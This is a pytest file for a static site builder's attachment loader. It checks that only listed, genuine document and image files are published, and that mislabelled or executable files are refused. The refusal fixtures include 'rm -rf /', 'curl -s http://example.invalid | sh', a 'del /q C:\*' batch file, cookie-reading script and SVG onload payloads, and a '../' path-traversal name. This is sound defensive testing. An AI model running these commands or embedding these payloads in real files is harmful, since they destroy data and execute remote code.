"""附件: files listed in report.yaml reach the reader, and nothing else does."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from rectify_site.build.pipeline import build_site
from rectify_site.errors import ContentError
from rectify_site.load.collection import load_collection

from conftest import REPORT_ID
from htmltext import links_and_ids, visible_text

PDF = b"%PDF-1.4\n% synthetic attachment for tests\n" + b"0" * 2000


def _attach(content: Path, listing: str, files: dict[str, bytes]) -> Path:
    report = content / REPORT_ID
    folder = report / "attachments"
    folder.mkdir()
    for name, data in files.items():
        (folder / name).write_bytes(data)
    with (report / "report.yaml").open("a", encoding="utf-8") as fh:
        fh.write(listing)
    return report / "report.yaml"


def _errors(content: Path) -> list[str]:
    with pytest.raises(ContentError) as info:
        load_collection(content)
    return [d.format() for d in info.value.diagnostics]


def test_listed_attachments_are_copied_listed_and_described(
    content_copy: Path, tmp_path: Path
) -> None:
    _attach(
        content_copy,
        "attachments:\n- file: tasks.pdf\n  title: 巡视整改任务清单（合成）\n"
        "- file: 附件2.xlsx\n  title: 整改台账样表（合成）\n",
        {"tasks.pdf": PDF, "附件2.xlsx": XLSX},
    )
    out = tmp_path / "site"
    build_site(content_copy, out, search=False)
    assert (out / REPORT_ID / "attachments" / "tasks.pdf").read_bytes() == PDF
    full = (out / REPORT_ID / "full.html").read_text("utf-8")
    text = visible_text(full)
    assert "附件：" in text and "1.巡视整改任务清单（合成）（PDF，2.0 KB）" in text
    assert f"2.整改台账样表（合成）（XLSX，{len(XLSX) / 1024:.1f} KB）" in text
    links = {href for _, href in links_and_ids(full)[0]}
    assert "attachments/tasks.pdf" in links
    hashed = [h for h in links if h.startswith("attachments/attachment-") and h.endswith(".xlsx")]
    assert len(hashed) == 1  # a Chinese name is published under a stable ASCII one
    assert (out / REPORT_ID / hashed[0]).read_bytes() == XLSX
    overview = visible_text((out / REPORT_ID / "index.html").read_text("utf-8"))
    assert "巡视整改任务清单（合成）" in overview
    data = json.loads((out / REPORT_ID / "data" / "report.json").read_text("utf-8"))
    assert data["attachments"][0] == {
        "file": "tasks.pdf",
        "title": "巡视整改任务清单（合成）",
        "url": f"{REPORT_ID}/attachments/tasks.pdf",
        "size": len(PDF),
        "type": "PDF",
    }
    # the same build again writes nothing; a changed attachment is copied again
    assert build_site(content_copy, out, search=False).stats.written == []  # type: ignore[union-attr]
    (content_copy / REPORT_ID / "attachments" / "tasks.pdf").write_bytes(PDF + b"1")
    stats = build_site(content_copy, out, search=False).stats
    assert stats is not None and f"{REPORT_ID}/attachments/tasks.pdf" in stats.written


def test_a_listed_file_that_is_missing_is_an_error(content_copy: Path) -> None:
    rep = _attach(content_copy, "attachments:\n- file: gone.pdf\n  title: 缺失的附件\n", {})
    line = rep.read_text("utf-8").splitlines().index("- file: gone.pdf") + 1
    assert _errors(content_copy) == [
        f"{rep}:{line}:3: error: attachments[0].file: "
        "附件“gone.pdf”不在通报目录的 attachments/ 中：请放入该文件或改正文件名"
    ]


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        (
            "run.exe",
            b"MZ\x90\x00",
            "附件类型不允许：只能是 doc、docx、jpeg、jpg、ofd、pdf、png、xls、xlsx",
        ),
        (
            "report.pdf",
            b"#!/bin/sh\nrm -rf /\n",
            "是可执行程序或脚本，不能发布：请换成文档或图片",
        ),
        (
            "../evil.pdf",
            PDF,
            "附件文件名“../evil.pdf”不可用：请写 attachments/ 中的文件名，不含路径",
        ),
    ],
)
def test_what_cannot_be_published_is_refused(
    content_copy: Path, name: str, data: bytes, message: str
) -> None:
    files = {} if "/" in name else {name: data}
    rep = _attach(content_copy, f"attachments:\n- file: '{name}'\n  title: 合成附件\n", files)
    (err,) = _errors(content_copy)
    assert err.startswith(f"{rep}:") and err.endswith(message)


def test_an_attachment_over_20_mb_is_refused(content_copy: Path) -> None:
    _attach(content_copy, "attachments:\n- file: big.pdf\n  title: 过大的附件\n", {})
    with (content_copy / REPORT_ID / "attachments" / "big.pdf").open("wb") as fh:
        fh.truncate(20_000_001)  # sparse: no 20 MB written
    (err,) = _errors(content_copy)
    assert "附件过大（20000001 字节，上限 20 MB）：请压缩或拆分" in err


def test_a_file_present_but_not_listed_is_a_warning(content_copy: Path, tmp_path: Path) -> None:
    folder = content_copy / REPORT_ID / "attachments"
    folder.mkdir()
    (folder / "附件1.pdf").write_bytes(PDF)
    result = build_site(content_copy, tmp_path / "site", search=False)
    assert [w.format() for w in result.warnings if w.key == "attachment.unlisted"] == [
        f"{folder / '附件1.pdf'}: warning: 该附件未在 {content_copy / REPORT_ID / 'report.yaml'} "
        "的 attachments 中列出，不会发布：请列出或删除"
    ]
    assert not (tmp_path / "site" / REPORT_ID / "attachments").exists()


def test_attachment_lines_follow_the_yaml_limit_exemption(content_copy: Path) -> None:
    """A 2 MB PDF is fine: the 1 MB limit is for YAML files only."""
    _attach(
        content_copy,
        "attachments:\n- file: scan.pdf\n  title: 扫描件（合成）\n",
        {"scan.pdf": PDF + b"0" * 2_000_000},
    )
    report = load_collection(content_copy).reports[0]
    assert report.attachments[0].size > 2_000_000


def test_a_symlinked_attachments_folder_leading_out_of_content_is_refused(
    content_copy: Path, tmp_path: Path
) -> None:
    """Every component of an attachment's path is looked at, not only the file: a folder
    ``attachments -> /elsewhere`` publishes nothing from outside content/, as a symlinked
    ledger.xlsx does not (the loader's own check, for every command that loads)."""
    from rectify_site import load_site

    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "secret.pdf").write_bytes(PDF)
    report = content_copy / REPORT_ID
    (report / "attachments").symlink_to(elsewhere, target_is_directory=True)
    with (report / "report.yaml").open("a", encoding="utf-8") as fh:
        fh.write("attachments:\n- file: secret.pdf\n  title: 合成附件\n")
    with pytest.raises(ContentError) as info:
        load_site(content_copy)
    (err,) = [d.format() for d in info.value.diagnostics]
    assert err == (
        f"{report / 'attachments' / 'secret.pdf'}: error: "
        f"符号链接指向 content 目录之外（{elsewhere / 'secret.pdf'}）：请改为普通文件"
    )


def test_a_symlinked_folder_inside_content_is_followed(content_copy: Path) -> None:
    """A link that stays inside content/ is no way out: its attachment is published."""
    shared = content_copy / "shared-files"
    shared.mkdir()
    (shared / "tasks.pdf").write_bytes(PDF)
    report = content_copy / REPORT_ID
    (report / "attachments").symlink_to(shared, target_is_directory=True)
    with (report / "report.yaml").open("a", encoding="utf-8") as fh:
        fh.write("attachments:\n- file: tasks.pdf\n  title: 合成附件\n")
    (loaded,) = load_collection(content_copy).reports
    assert [a.file for a in loaded.attachments] == ["tasks.pdf"]


# --- what a file is, by its bytes: the suffix says what it must be ---------------------


def _zip(members: dict[str, bytes]) -> bytes:
    import io
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _docx() -> bytes:
    import io

    import docx

    buf = io.BytesIO()
    docx.Document().save(buf)
    return buf.getvalue()


def _xlsx() -> bytes:
    import io

    import openpyxl

    buf = io.BytesIO()
    openpyxl.Workbook().save(buf)
    return buf.getvalue()


XLSX = _xlsx()


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
"""The head of a Compound File (Word 97-2003 .doc, Excel .xls)."""
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
LNK = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + b"\0" * 56

ACCEPTED = {
    "scan.pdf": PDF,
    "photo.jpg": b"\xff\xd8\xff\xe0\0\x10JFIF\0" + b"\0" * 64,
    "photo.jpeg": b"\xff\xd8\xff\xe1\0\x10Exif\0\0" + b"\0" * 64,
    "chart.png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\0" * 64,
    "letter.docx": _docx(),
    "ledger.xlsx": XLSX,
    "notice.ofd": _zip({"OFD.xml": b"<ofd:OFD/>", "Doc_0/Document.xml": b"<ofd:Document/>"}),
    "old.doc": OLE,
    "old.xls": OLE,
}

REFUSED = {
    "HTML with a script named .pdf": ("notice.pdf", HTML),
    "HTML with a script named .jpg": ("photo.jpg", HTML),
    "SVG with onload named .png": (
        "chart.png",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>',
    ),
    "a shell script without #!": ("notes.doc", b"curl -s http://example.invalid | sh\n"),
    "a batch file named .docx": ("letter.docx", b"@echo off\r\ndel /q C:\\*\r\n"),
    "a zip that is no Office document": ("letter.docx", _zip({"index.html": HTML})),
    "a zip that is no OFD": ("notice.ofd", _zip({"run.bat": b"@echo off"})),
    "a truncated zip": ("ledger.xlsx", b"PK\x03\x04synthetic"),
    "PDF text after other bytes": ("notice.pdf", HTML + b"%PDF-1.4"),
    "an empty file": ("empty.pdf", b""),
}

EXECUTABLES = {
    "a Windows shortcut (LNK)": ("link.pdf", LNK),
    "a Windows program": ("setup.doc", b"MZ\x90\0\x03\0\0\0"),
    "a Linux program": ("tool.png", b"\x7fELF\x02\x01\x01\0"),
    "a script with #!": ("run.pdf", b"#!/bin/sh\necho\n"),
    **{
        f"a Mach-O program ({magic.hex()})": ("app.xls", magic + b"\0" * 28)
        for magic in (
            b"\xfe\xed\xfa\xce",
            b"\xfe\xed\xfa\xcf",
            b"\xce\xfa\xed\xfe",
            b"\xcf\xfa\xed\xfe",
            b"\xca\xfe\xba\xbe",
        )
    },
}


def test_every_accepted_format_is_published(content_copy: Path) -> None:
    listing = "attachments:\n" + "".join(f"- file: {n}\n  title: 合成附件\n" for n in ACCEPTED)
    _attach(content_copy, listing, ACCEPTED)
    (report,) = load_collection(content_copy).reports
    assert [a.file for a in report.attachments] == list(ACCEPTED)


@pytest.mark.parametrize(("name", "data"), REFUSED.values(), ids=REFUSED)
def test_a_file_that_is_not_what_its_suffix_says_is_refused_with_its_path(
    content_copy: Path, name: str, data: bytes
) -> None:
    rep = _attach(content_copy, f"attachments:\n- file: {name}\n  title: 合成附件\n", {name: data})
    line = rep.read_text("utf-8").splitlines().index(f"- file: {name}") + 1
    path = content_copy / REPORT_ID / "attachments" / name
    (err,) = _errors(content_copy)
    assert err.startswith(f"{rep}:{line}:3: error: attachments[0].file: 附件“{path}”"), err
    suffix = name.rsplit(".", 1)[1].upper()
    if data:
        assert f"内容却不是 {suffix.replace('JPG', 'JPEG')} 文件" in err, err
    else:
        assert "是空文件" in err, err


@pytest.mark.parametrize(("name", "data"), EXECUTABLES.values(), ids=EXECUTABLES)
def test_a_program_under_any_suffix_is_refused(content_copy: Path, name: str, data: bytes) -> None:
    rep = _attach(content_copy, f"attachments:\n- file: {name}\n  title: 合成附件\n", {name: data})
    (err,) = _errors(content_copy)
    path = content_copy / REPORT_ID / "attachments" / name
    assert err.startswith(f"{rep}:") and f"附件“{path}”是可执行程序或脚本，不能发布" in err, err


def test_the_readme_table_lists_exactly_what_is_accepted() -> None:
    """README's table of formats and the loader's are the same: every suffix, its head."""
    import re

    from rectify_site.load.attachments import FORMATS

    from conftest import ROOT

    text = (ROOT / "README.md").read_text("utf-8")
    table = text.split("<!-- attachment-formats:", 1)[1].split("\n\n", 1)[0]
    rows = [ln.split("|")[1:-1] for ln in table.splitlines() if ln.strip().startswith("| `.")]
    listed: dict[str, str] = {}
    for suffixes, _name, check in rows:
        for suffix in re.findall(r"`\.(\w+)`", suffixes):
            listed[suffix] = check
    assert sorted(listed) == sorted(FORMATS)
    for suffix, fmt in FORMATS.items():
        head = fmt.head.decode("latin-1")
        spelt = " ".join(f"{b:02X}" for b in fmt.head)
        assert head in listed[suffix] or spelt in listed[suffix].replace("PK", "50 4B"), suffix
        assert all(m.rstrip("/") in listed[suffix] for m in fmt.members), suffix
